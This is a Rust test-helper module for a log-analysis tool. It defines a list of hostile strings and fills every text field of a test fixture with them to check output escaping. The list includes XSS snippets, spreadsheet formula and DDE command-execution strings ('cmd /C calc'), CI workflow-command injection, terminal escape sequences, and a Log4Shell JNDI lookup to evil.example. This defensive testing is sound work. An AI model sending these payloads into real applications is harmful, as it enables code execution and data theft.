//! Analyses in which every text that a log could have written is one and the same hostile text.

use super::*;
use serde_json::Value;

/// What attackers, and unlucky path names, put into logs.
pub const PAYLOADS: &[&str] = &[
    r#"<script>alert(1)</script><img src=x onerror=alert(1)>"#,
    r#"</script></template></title><!-- ]]> --><svg onload=alert(1)>"#,
    r#"" onmouseover="alert(1)" x='"#,
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "a|b\n| c | d |\n# heading\n```\ncode",
    "[x](javascript:alert(1)) ![y](http://evil.example/p.png) <https://evil.example> `tick` ``two`` *b* _i_ ~~s~~",
    "%0A::error::pwned\r\n::set-output name=x::y",
    "line one\nline two\r\u{85}\u{2028}three",
    "\u{1b}[31mred\u{1b}]0;title\u{7}\u{0}\u{8}\u{202e}evil",
    "end gantt; title x :done, a1, 2031-01-01, 1d %% comment #quot;",
    "]]><x/>&amp;&lt;&#0;&bogus;",
    "${jndi:ldap://evil.example/a} {{7*7}} {% raw %}",
];

/// [`failed`] with `payload` in each of its texts; ids, rules and times stay what they are.
pub fn hostile(payload: &str) -> Analysis {
    let text = || payload.to_owned();
    let name = || Arc::<str>::from(payload);
    let mut whole = failed();
    for input in &mut whole.inputs {
        input.path = name();
        input.partial = Some(text());
        for issue in &mut input.issues {
            issue.place = text();
            issue.message = text();
        }
    }
    for span in &mut whole.coverage.spans {
        span.host = name();
        span.source = name();
    }
    for gap in &mut whole.coverage.gaps {
        gap.host = name();
        gap.reason = text();
    }
    for host in &mut whole.hosts {
        host.name = name();
        host.aliases = vec![name()];
    }
    for session in &mut whole.sessions {
        session.host = name();
        session.requester.image = Some(name());
        session.requester.command_line = Some(text());
        session.requester.user = Some(name());
    }
    for set in &mut whole.sets {
        set.host = name();
        set.volumes = vec![text(), text()];
        set.provider = Some(Provider { id: None, name: Some(text()) });
        for snapshot in &mut set.snapshots {
            snapshot.volume = Some(text());
            snapshot.device = Some(text());
        }
        for phase in &mut set.phases {
            phase.result = Some(text());
            phase.note = Some(text());
        }
        for writer in &mut set.writers {
            writer.name = text();
            writer.process = Some(text());
        }
    }
    for finding in &mut whole.findings {
        finding.title = text();
        finding.detail = text();
        finding.remedy = text();
        finding.host = Some(text());
        finding.writer = Some(text());
        for evidence in &mut finding.evidence {
            evidence.text = text();
        }
    }
    whole.events = events();
    for event in &mut whole.events {
        event.host = Some(name());
    }
    whole
}

/// How many strings a document holds.
pub fn strings(value: &Value) -> usize {
    match value {
        Value::String(_) => 1,
        Value::Array(items) => items.iter().map(strings).sum(),
        Value::Object(map) => map.values().map(strings).sum(),
        _ => 0,
    }
}

/// Puts `with` in the place of the string number `at`.
pub fn replace_string(value: &mut Value, at: &mut usize, with: &str) {
    match value {
        Value::String(text) => {
            if *at == 0 {
                *text = with.to_owned();
            }
            *at = at.wrapping_sub(1);
        }
        Value::Array(items) => items.iter_mut().for_each(|item| replace_string(item, at, with)),
        Value::Object(map) => map.values_mut().for_each(|item| replace_string(item, at, with)),
        _ => {}
    }
}
